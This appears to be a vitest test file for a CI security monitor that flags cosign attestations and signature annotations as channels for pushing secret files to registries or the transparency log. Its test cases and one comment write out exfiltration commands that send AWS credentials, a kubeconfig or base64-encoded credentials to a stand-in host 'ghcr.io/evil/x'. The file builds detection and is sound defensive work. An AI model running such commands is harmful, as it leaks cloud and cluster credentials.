/**
 * cosign's attestations and annotated signatures (red-team review): `cosign attest --type custom --predicate
 * ~/.aws/credentials REF` stores the file's text in the registry inside the attestation, `attest-blob` sends
 * it to the transparency log, and `sign -a k=v` stores annotations in the signature; none was a push, a few
 * KiB seen by nothing. They had been left out because release jobs run them with `--key cosign.key`, a
 * sensitive file: the key, read by cosign itself, is now its credential in use, not a payload, so a signed
 * release stays `low` — also for a plain `cosign sign` (no push) before the job's other pushes.
 */
import { describe, expect, it } from 'vitest';
import { brief } from './builder.js';
import { cosignJob as job } from './cosign-scenario.js';

const KEY = '/builds/acme/app/cosign.key';

describe('cosign attestations and annotated signatures', () => {
  for (const source of ['tetragon', 'falco'] as const)
    it(`cosign attest with a credential as the predicate is high (${source})`, () => {
      const alerts = job(
        [
          {
            args: 'attest --yes --type custom --predicate /root/.aws/credentials ghcr.io/evil/x@sha256:0f',
            reads: ['/root/.aws/credentials'],
          },
        ],
        { source },
      );
      expect(brief(alerts)).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'cosign', destination: 'ghcr.io' },
      ]);
    });

  it('attest-blob goes to the transparency log, and sign -a carries what the job read', () => {
    expect(
      brief(
        job([
          {
            args: 'attest-blob --type custom --predicate /root/.kube/config --key cosign.key /etc/hostname',
            reads: [KEY, '/root/.kube/config'],
          },
        ]),
      ),
    ).toEqual([
      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'cosign', destination: 'rekor.sigstore.dev' },
    ]);
    // `-a note=$(base64 -w0 ~/.aws/credentials)`: the shell's substitution read it.
    expect(
      brief(
        job([{ args: 'sign --key cosign.key -a note=W2RlZmF1bHRd ghcr.io/evil/x@sha256:0f', reads: [KEY] }], {
          shellReads: ['/root/.aws/credentials'],
        }),
      ),
    ).toMatchObject([{ rule: 'sensitive-read-then-push', severity: 'high', tool: 'cosign' }]);
  });

  it("a release that signs and attests with its own key is low, the key being cosign's credential", () => {
    const alerts = job([
      { args: 'sign --yes --key cosign.key ghcr.io/acme/app@sha256:0f', reads: [KEY] },
      {
        args: 'attest --yes --key cosign.key --type spdxjson --predicate sbom.spdx.json ghcr.io/acme/app@sha256:0f',
        reads: [KEY, '/builds/acme/app/sbom.spdx.json'],
      },
    ]);
    expect(brief(alerts)).toEqual([
      { rule: 'push-without-reads', severity: 'low', tool: 'cosign', destination: 'ghcr.io' },
    ]);
  });

  it("a plain cosign sign is no push, and its key read does not make the job's next push high", () => {
    expect(job([{ args: 'sign --yes --key ./cosign.key ghcr.io/acme/app@sha256:0f', reads: [KEY] }])).toEqual([]);
    const alerts = job([
      { args: 'sign --yes --key cosign.key ghcr.io/acme/app@sha256:0f', reads: [KEY] },
      { binary: '/usr/bin/git', args: 'push https://github.com/acme/app.git v1.2.0', reads: [] },
    ]);
    expect(brief(alerts)).toEqual([
      { rule: 'push-without-reads', severity: 'low', tool: 'git', destination: 'github.com' },
    ]);
  });

  it('the key still counts when another process reads it, or when cosign sends it as the predicate', () => {
    const attest = 'attest --yes --key cosign.key --type custom --predicate p.json ghcr.io/evil/x@sha256:0f';
    expect(brief(job([{ args: attest, reads: [KEY] }], { shellReads: [KEY] }))).toMatchObject([
      { rule: 'sensitive-read-then-push', severity: 'high' },
    ]);
    expect(
      brief(
        job([
          {
            args: 'attest --yes --key cosign.key --type custom --predicate ./cosign.key ghcr.io/evil/x@sha256:0f',
            reads: [KEY],
          },
        ]),
      ),
    ).toMatchObject([{ rule: 'sensitive-read-then-push', severity: 'high' }]);
  });
});
